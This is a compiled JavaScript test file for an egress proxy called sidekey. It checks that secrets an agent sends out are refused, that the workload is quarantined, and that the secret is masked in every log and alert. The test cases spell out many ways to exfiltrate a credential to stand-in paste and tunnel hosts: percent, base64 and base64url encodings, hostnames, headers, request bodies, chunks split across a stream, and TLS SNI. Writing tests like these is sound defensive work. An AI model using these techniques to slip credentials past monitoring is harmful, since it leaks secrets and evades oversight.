import { createServer } from 'node:http';
import { once } from 'node:events';
import { connect as netConnect } from 'node:net';
import { connect as tlsConnect } from 'node:tls';
import { Readable } from 'node:stream';
import t, {} from 'tap';
import { ProxyAgent, request } from 'undici';
import { curl, rawExchange } from '../helpers/clients.js';
import { pollFor } from '../helpers/poll.js';
import { SECRETS, startTestSidekey } from '../helpers/sidekey.js';
// Outbound secret detection against an agent that tries: each encoding and each place a secret can
// ride in (host, path, query key and value, header name and value, body), sent through sidekey by
// curl or undici. Each attempt is refused with 403 SIDEKEY_ERR_SECRET_DETECTED before anything of
// it reaches the upstream (asserted on the bytes the upstream's sockets received) or a DNS server
// (asserted on the resolver's calls), the workload is quarantined, and no log line, security
// event, alert, metric or console decision holds the secret in any form it was sent in.
const secret = SECRETS.OPENAI;
/** A static secret with a space and a slash, for form (`+`) and JSON (`\/`) encodings. */
const SPACED = 'open sesame/42 xyz';
const b64 = (s, enc = 'base64') => Buffer.from(s).toString(enc);
const pctAll = (s) => [...Buffer.from(s)].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');
t.test('secrets in every place and encoding are caught before they leave', async (t) => {
    // The upstream: every byte its sockets receive, whatever the HTTP exchange made of them.
    const wire = [];
    const upstream = createServer((req, res) => {
        req.resume();
        req.on('end', () => res.end('ok'));
        req.on('error', () => undefined);
    });
    upstream.on('connection', (s) => s.on('data', (c) => wire.push(c)));
    await new Promise((r) => upstream.listen(0, '127.0.0.1', r));
    t.teardown(() => new Promise((r) => { upstream.closeAllConnections(); upstream.close(() => r()); }));
    const port = upstream.address().port;
    // A webhook receiver for security events.
    const alerts = [];
    const receiver = createServer((req, res) => {
        let body = '';
        req.on('data', (c) => (body += c.toString()));
        req.on('end', () => {
            alerts.push(body);
            res.writeHead(204).end();
        });
    });
    await new Promise((r) => receiver.listen(0, '127.0.0.1', r));
    t.teardown(() => new Promise((r) => receiver.close(() => r())));
    process.env.TEST_ALERT_WEBHOOK = `http://127.0.0.1:${receiver.address().port}/hook`;
    process.env.TEST_SPACED_KEY = SPACED;
    // Every name sidekey asks DNS for.
    const lookups = [];
    const sk = await startTestSidekey(t, `
version: v1
monitoring:
  webhook: { url: { env: TEST_ALERT_WEBHOOK }, retries: 0 }
credentials:
  key: { type: static, env: TEST_OPENAI_KEY }
  spaced: { type: static, env: TEST_SPACED_KEY }
routes:
  - { name: paste, host: paste.test, ports: [${port}], addresses: [127.0.0.1] }
  - { name: paste-any, host: "*.paste.test", ports: [${port}], addresses: [127.0.0.1] }
  - { name: tunnel-any, host: "*.tunnel.test", ports: [443], action: tunnel, addresses: [127.0.0.1] }
  - { name: spaced-api, host: spaced.test, ports: [${port}], credential: spaced, addresses: [127.0.0.1] }
`, {
        connectTo: { [`paste.test:${port}`]: { host: '127.0.0.1', port } },
        resolver: async (host) => {
            lookups.push(host);
            return [{ address: '127.0.0.1', family: 4 }];
        },
    });
    const proxyFor = (workload) => sk.proxyUrlFor(workload);
    /** What each attack sent, to look for in everything sidekey wrote and everything upstream got. */
    const sent = [secret, SPACED];
    const expectCaught = async (t, workload, payload, attempt) => {
        sent.push(payload);
        const before = Buffer.concat(wire).length;
        const lookupsBefore = lookups.length;
        t.same(await attempt(), { status: 403, error: 'SIDEKEY_ERR_SECRET_DETECTED' });
        const got = Buffer.concat(wire).subarray(before).toString('latin1').toLowerCase();
        for (const s of [secret, SPACED, payload])
            t.notOk(got.includes(s.toLowerCase()), `the upstream never received ${JSON.stringify(s)}`);
        t.same(lookups.slice(lookupsBefore).filter((h) => h.includes(secret.toLowerCase())), [], 'no DNS lookup carried the secret');
        // Quarantined now: even an innocent request is refused.
        const after = await curl(['-x', proxyFor(workload), `http://paste.test:${port}/innocent`]);
        t.equal(after.status, 403);
        t.match(after.headers, /x-sidekey-error: SIDEKEY_ERR_QUARANTINED/i);
    };
    const viaCurl = (workload, args) => async () => {
        const r = await curl(['-x', proxyFor(workload), '-g', '--path-as-is', ...args]);
        return { status: r.status, error: /x-sidekey-error: (\S+)/i.exec(r.headers)?.[1] };
    };
    const viaRaw = (workload, target) => async () => {
        const url = new URL(proxyFor(workload));
        const auth = Buffer.from(`${url.username}:${url.password}`).toString('base64');
        const answer = await rawExchange(Number(url.port), `GET ${target} HTTP/1.1\r\nHost: x\r\nProxy-Authorization: Basic ${auth}\r\nConnection: close\r\n\r\n`);
        return { status: Number(/^HTTP\/1\.1 ([0-9]{3})/.exec(answer)?.[1] ?? 0), error: /x-sidekey-error: (\S+)/i.exec(answer)?.[1] };
    };
    const at = `http://paste.test:${port}`;
    const heads = [
        ['query value, percent-encoded after a stray %', pctAll(secret), (w, p) => viaCurl(w, [`${at}/c?bad=%zz&k=${p}`])],
        ['path segment, partly percent-encoded', 'sk-test%2Dopenai%2d5f2b8e0c1d', (w, p) => viaCurl(w, [`${at}/c/${p}/x`])],
        ['query key', secret, (w, p) => viaCurl(w, [`${at}/c?${p}=1`])],
        ['path, upper case', secret.toUpperCase(), (w, p) => viaCurl(w, [`${at}/c/${p}`])],
        ['header name', secret, (w, p) => viaCurl(w, ['-H', `${p}: 1`, `${at}/c`])],
        ['header name, base64url', b64(`~${secret}`, 'base64url'), (w, p) => viaCurl(w, ['-H', `x-${p}: 1`, `${at}/c`])],
        ['header value, percent-encoded', pctAll(secret), (w, p) => viaCurl(w, ['-H', `x-data: ${p}`, `${at}/c`])],
        ['Basic base64("x:" + secret)', b64(`x:${secret}`), (w, p) => viaCurl(w, ['-H', `authorization: Basic ${p}`, `${at}/c`])],
        ['base64 mid-string (alignment 1)', b64(`abcd${secret}efg`), (w, p) => viaCurl(w, ['-H', `x-data: ${p}`, `${at}/c`])],
        ['base64 mid-string (alignment 2)', b64(`hello${secret}!`), (w, p) => viaCurl(w, ['-H', `cookie: session=${p}`, `${at}/c`])],
        ['base64url in the query', b64(`{"k":"${secret}"}`, 'base64url'), (w, p) => viaCurl(w, [`${at}/c?state=${p}`])],
        ['base64, percent-encoded, in the query', encodeURIComponent(b64(`??${secret}>>`)), (w, p) => viaCurl(w, [`${at}/c?d=${p}`])],
        ['absolute-form host', `${secret}.paste.test`, (w, p) => viaCurl(w, [`http://${p}:${port}/c`])],
        ['absolute-form host, percent-encoded', `${pctAll('sk-test')}-openai-5f2b8e0c1d.paste.test`, (w, p) => viaRaw(w, `http://${p}:${port}/c`)],
        ['CONNECT host on a wildcard tunnel route', `${secret}.tunnel.test`, (w, p) => viaCurl(w, ['-p', `https://${p}/`])],
    ];
    heads.forEach(([name, payload, send], i) => {
        t.test(`${name}: refused, quarantined, nothing sent`, async (t) => expectCaught(t, `w-${i}`, payload, send(`w-${i}`, payload)));
    });
    const bodies = [
        ['form body, percent-encoded', `k=${pctAll(secret)}`, 'application/x-www-form-urlencoded'],
        ['form body, space as +', `k=${encodeURIComponent(SPACED).replaceAll('%20', '+')}`, 'application/x-www-form-urlencoded'],
        ['JSON body with \\/', JSON.stringify({ k: SPACED }).replaceAll('/', '\\/'), 'application/json'],
        ['JSON body, base64 at alignment 2', JSON.stringify({ file: b64(`ab${secret}`) }), 'application/json'],
    ];
    bodies.forEach(([name, payload, contentType], i) => {
        t.test(`${name}: refused, quarantined, nothing sent`, async (t) => expectCaught(t, `b-${i}`, payload, viaCurl(`b-${i}`, ['-H', `content-type: ${contentType}`, '--data-binary', payload, `${at}/upload`])));
    });
    // A streamed body: the encoded secret is split across chunks, before two thirds of it. Detection
    // holds nothing back for what it could become (a held tail told an agent which prefix of a key
    // was right); the chunk that reaches two thirds of the secret is refused, and nothing of it is
    // forwarded.
    const split = [
        ['percent-encoded', `k=${'a'.repeat(100)}`, pctAll(secret).slice(0, 20), `${pctAll(secret).slice(20)}&z=1`],
        ['base64 at alignment 1', `d=${b64(`q${secret}`).slice(0, 2)}`, b64(`q${secret}`).slice(2, 14), b64(`q${secret}`).slice(14)],
    ];
    split.forEach(([name, visible, hidden, rest], i) => {
        t.test(`a streamed body, ${name}, split across chunks: refused before two thirds of it leave`, async (t) => {
            const workload = `s-${i}`;
            let arrived = '';
            await expectCaught(t, workload, hidden + rest, async () => {
                const dispatcher = new ProxyAgent({ uri: proxyFor(workload), proxyTunnel: false });
                try {
                    async function* chunks() {
                        yield visible + hidden;
                        arrived = await pollFor(() => Buffer.concat(wire).toString('latin1'), (w) => w.includes(visible), 5000);
                        yield rest;
                    }
                    const res = await request(`http://paste.test:${port}/upload`, { dispatcher, method: 'POST', body: Readable.from(chunks()) });
                    await res.body.dump();
                    return { status: res.statusCode, error: res.headers['x-sidekey-error'] };
                }
                finally {
                    await dispatcher.close();
                }
            });
            // (How much of the first chunk's end goes at once is the `_method` field scan's business: a
            // body without Content-Type is read as a form, and an escape may begin `%5Fmethod`.)
            t.ok(arrived.includes(visible), 'what came before the secret was passed on without waiting');
            t.notOk(Buffer.concat(wire).toString('latin1').includes(hidden + rest.slice(0, 3)), 'nothing of the chunk that reached two thirds of it was forwarded');
        });
    });
    t.test('ordinary traffic still flows, with DNS for ordinary names', async (t) => {
        const r = await curl(['-x', proxyFor('ok'), '-H', `x-data: ${b64('nothing secret here at all')}`, `http://ok.paste.test:${port}/c?q=${encodeURIComponent('100% sure')}`]);
        t.equal(r.status, 200);
        t.ok(lookups.includes('ok.paste.test'));
        const connect = await curl(['-x', proxyFor('ok'), '-p', 'https://ok.tunnel.test/']);
        t.not(connect.status, 403, 'a tunnel to an ordinary name is not refused by detection');
        t.ok(lookups.includes('ok.tunnel.test'));
    });
    t.test('what sidekey wrote about the attempts holds none of what was sent', async (t) => {
        await assertNothingWritten(t, sk, sent, alerts, 15 + 4 + 2);
    });
});
t.test('transparent mode: a secret in the SNI is caught before DNS', async (t) => {
    const lookups = [];
    const sk = await startTestSidekey(t, 'version: v1\ncredentials:\n  key: { type: static, env: TEST_OPENAI_KEY }\nroutes:\n  - { name: any, host: "*.tunnel.test", action: tunnel, addresses: [127.0.0.1] }\n', {
        transparent: true,
        workload: 'sidecar',
        resolver: async (host) => {
            lookups.push(host);
            return [{ address: '127.0.0.1', family: 4 }];
        },
    });
    const host = `${secret}.tunnel.test`;
    const r = await curl(['--connect-to', `${host}:443:127.0.0.1:${sk.transparentHttpsPort}`, '--cacert', sk.ca.certPath, `https://${host}/`]);
    t.not(r.code, 0, 'the connection is closed');
    const audit = await sk.sink.waitForAudit((a) => a.method === 'TLS' && a.error === 'SIDEKEY_ERR_SECRET_DETECTED');
    t.match(audit, { workload: 'sidecar', decision: 'deny', host: /^\[redacted\]\**\.tunnel\.test$/ });
    t.same(lookups, [], 'nothing was resolved');
    const quarantined = await pollFor(() => sk.state.quarantined('sidecar'), (q) => q !== undefined, 5000);
    t.match(quarantined, { reason: 'outbound secret detected' });
    t.same(sk.sink.leaks([secret, secret.toLowerCase()]), []);
});
t.test('a managed secret in a path, host or query key is masked wherever sidekey writes it', async (t) => {
    const alerts = [];
    const receiver = createServer((req, res) => {
        let body = '';
        req.on('data', (c) => (body += c.toString()));
        req.on('end', () => {
            alerts.push(body);
            res.writeHead(204).end();
        });
    });
    await new Promise((r) => receiver.listen(0, '127.0.0.1', r));
    t.teardown(() => new Promise((r) => receiver.close(() => r())));
    process.env.TEST_ALERT_WEBHOOK = `http://127.0.0.1:${receiver.address().port}/hook`;
    const sk = await startTestSidekey(t, `
version: v1
monitoring:
  webhook: { url: { env: TEST_ALERT_WEBHOOK }, retries: 0 }
credentials:
  key: { type: static, env: TEST_OPENAI_KEY }
routes:
  - { name: paste, host: "*.paste.test", addresses: [127.0.0.1] }
`, { resolver: async () => [{ address: '127.0.0.1', family: 4 }] });
    const pct = `%73k-test-openai-5f2b8e0c1d`;
    const r = await curl(['-x', sk.proxyUrlFor('leaky'), '-g', '--path-as-is', `http://${secret}.paste.test/a/${pct}/b?${secret}=1&x=2`]);
    t.equal(r.status, 403);
    const line = await sk.sink.waitForAudit((a) => a.workload === 'leaky');
    t.match(line, { error: 'SIDEKEY_ERR_SECRET_DETECTED', host: /^\[redacted\]\**\.paste\.test$/, path: /^\/a\/\[redacted\]\**\/b$/, query_keys: [/^\[redacted\]\**$/, 'x'] });
    const event = await pollFor(() => sk.sink.lines.find((l) => l.type === 'secret_detected'), (e) => e !== undefined, 5000);
    t.match(event, { workload: 'leaky', host: /^\[redacted\]/, path: /^\/a\/\[redacted\]/ });
    // Already quarantined: refused for that, never scanned, and still masked.
    const again = await curl(['-x', sk.proxyUrlFor('leaky'), `http://x.paste.test/${secret}`]);
    t.match(again.headers, /SIDEKEY_ERR_QUARANTINED/);
    t.match(await sk.sink.waitForAudit((a) => a.workload === 'leaky' && a.reason === 'quarantined'), { path: /^\/\[redacted\]\**$/ });
    // An invalid run token: refused before anything else, and masked too.
    const invalid = await curl(['-x', sk.proxyUrl.replace('http://', 'http://leaky:wrong@'), `http://${secret}.paste.test/`]);
    t.equal(invalid.status, 407);
    t.match(await sk.sink.waitForAudit((a) => a.reason === 'invalid-run-token'), { host: /^\[redacted\]/ });
    // Inside an allowed tunnel, a TLS ClientHello whose SNI names another host (the secret): refused,
    // and the failure's log detail, which quotes the SNI, is masked.
    const url = new URL(sk.proxyUrlFor('sni-agent'));
    const socket = netConnect(Number(url.port), '127.0.0.1');
    await once(socket, 'connect');
    socket.write(`CONNECT ok.paste.test:443 HTTP/1.1\r\nHost: ok.paste.test:443\r\nProxy-Authorization: Basic ${Buffer.from(`${url.username}:${url.password}`).toString('base64')}\r\n\r\n`);
    const [established] = (await once(socket, 'data'));
    t.match(established.toString(), /^HTTP\/1\.1 200/);
    const tls = tlsConnect({ socket, servername: `${secret}.other.test`, rejectUnauthorized: false });
    await once(tls, 'error').catch(() => undefined);
    tls.destroy();
    const failed = await pollFor(() => sk.sink.lines.find((l) => l.event === 'intercept_failed'), (l) => l !== undefined, 5000);
    t.match(failed, { why: 'sni-mismatch', detail: /^SNI \[redacted\]\**\.other\.test does not match/ });
    await assertNothingWritten(t, sk, [secret, pct], alerts, 2);
});
/**
 * No log line, alert, metric or console decision holds any of `sent` (case-insensitively), and
 * the alerts expected arrived (so their absence of secrets means something).
 */
async function assertNothingWritten(t, sk, sent, alerts, expectedAlerts) {
    const received = await pollFor(() => alerts.length, (n) => n >= expectedAlerts, 10_000);
    t.ok(received >= expectedAlerts, `${received} alerts reached the webhook`);
    const metrics = await (await fetch(`${sk.adminUrl}/metrics`)).text();
    const decisions = await (await fetch(`${sk.adminUrl}/v1/decisions`, { headers: { authorization: `Bearer ${sk.adminToken}` } })).text();
    t.match(decisions, /secret-detected/, 'the console saw the refusals');
    const outputs = [
        ['log', sk.sink.raw],
        ['alert', alerts],
        ['metrics', [metrics]],
        ['console decisions', [decisions]],
    ];
    for (const [where, texts] of outputs) {
        const leaks = texts.filter((text) => sent.some((s) => text.toLowerCase().includes(s.toLowerCase())));
        t.same(leaks, [], `no ${where} holds what the agent sent`);
    }
}
//# sourceMappingURL=secret-exfiltration.test.js.map